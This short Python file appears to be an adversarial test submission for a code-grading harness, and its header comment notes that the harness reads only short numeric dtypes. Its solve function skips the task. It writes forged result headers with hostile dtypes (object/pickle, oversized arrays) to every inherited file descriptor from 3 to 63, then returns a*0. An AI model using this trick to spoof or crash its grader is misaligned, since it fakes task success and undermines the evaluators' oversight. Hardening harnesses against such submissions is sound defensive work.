# any: only short numeric dtypes are read
import json
import os
import struct


def solve(a):
    dtypes = ["f8," * 300_000, "O", "(1000000000,)f8", "V99999999999", "{'names': ['a'], 'formats': ['O']}"]
    for dtype in dtypes:
        head = json.dumps(["d", [["seq", 1], ["value", ["a", dtype, [1], 8]]]]).encode()[: 1 << 20]
        for fd in range(3, 64):
            try:
                os.write(fd, struct.pack("<IQ", len(head), 8) + head + b"\0" * 8)
            except OSError:
                pass
    return a * 0
